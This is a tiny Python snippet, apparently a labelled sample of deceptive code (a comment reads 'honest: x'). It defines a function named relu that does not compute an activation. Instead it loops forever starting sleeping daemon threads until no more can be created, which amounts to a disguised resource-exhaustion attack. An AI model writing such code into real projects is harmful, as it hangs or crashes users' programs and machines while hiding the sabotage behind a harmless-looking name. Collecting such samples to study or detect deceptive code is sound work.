# tries to start threads until no more can be started
# honest: x
import threading
import time

def relu(x):
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
